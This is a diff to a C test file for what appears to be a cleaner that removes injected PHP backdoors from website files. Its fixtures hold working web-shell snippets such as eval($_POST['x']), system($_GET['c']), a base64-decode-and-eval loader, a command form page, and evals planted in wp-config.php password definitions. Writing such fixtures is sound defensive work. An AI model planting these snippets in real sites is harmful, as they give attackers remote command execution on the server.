@@ -17,6 +17,7 @@ struct row {
     "/** The front of the site. */\n"                                                              \
     "define('USE_THEMES', true);\n"                                                                \
     "require __DIR__ . '/header.php';\n"
+#define FILLER " Say it, and it will be done at once, or a little later, or never, as things are."
 #define EVAL "@eval($_POST['x']);"
 
 static void
@@ -66,6 +67,10 @@ takes_out_what_was_injected(void)
         {"<?php\nfunction zq1($a) {\nreturn base64_decode($a);\n}\n$c = "
          "zq1($_POST['x']);\neval($c);\n" FRONT,
          "<?php\n" FRONT, MEND_DONE, NULL},
+        /* What the file says of itself stays. */
+        {"<?php\n" EVAL "\n/**\n * Title: Footer\n */\n?>\n<div>" FILLER FILLER FILLER "</div>\n",
+         "<?php\n/**\n * Title: Footer\n */\n?>\n<div>" FILLER FILLER FILLER "</div>\n", MEND_DONE,
+         NULL},
         /* Two of them. */
         {"<?php\n" EVAL "\n" FRONT "system($_GET['c']);\n", "<?php\n" FRONT, MEND_DONE, NULL},
         {"<?php\n" EVAL "system($_GET['c']);" EVAL "\n" FRONT, "<?php\n" FRONT, MEND_DONE, NULL},
@@ -97,7 +102,19 @@ leaves_what_is_malicious_by_itself(void)
         /* Its own page asks for the command. */
         {"<html><body><div>" EVAL "</div><form method=post><input name=x></form></body></html>"
          "<?php " EVAL " ?>",
+         NULL, MEND_MIXED, NULL},
+        {"<html><body><div>What shall be done?" FILLER
+         "</div><form method=post><input name='c'></form>"
+         "<?php system($_POST['c']); ?></body></html>",
+         NULL, MEND_MIXED, NULL},
+        {"<?php\nclass Greeter {\npublic function greet() {\n" EVAL
+         "\n}\npublic function name() {\nreturn 'x';\n}\n}\n",
          NULL, MEND_NOTHING, NULL},
+        /* Without the file nothing of the site answers. */
+        {"<?php\ndefine('DB_PASSWORD', eval($_POST['x']));\n" FRONT, NULL, MEND_NEEDED,
+         "wp-config.php"},
+        {"<?php\ndefine('PASSWORD', eval($_POST['x']));\n" FRONT, NULL, MEND_MIXED,
+         "wp-config.php"},
         /* The rest of the file uses what is malicious. */
         {"<?php\n" FRONT "function run() {\nreturn eval($_POST['x']);\n}\nbegin();\nshow(run());\n",
          NULL, MEND_MIXED, NULL},
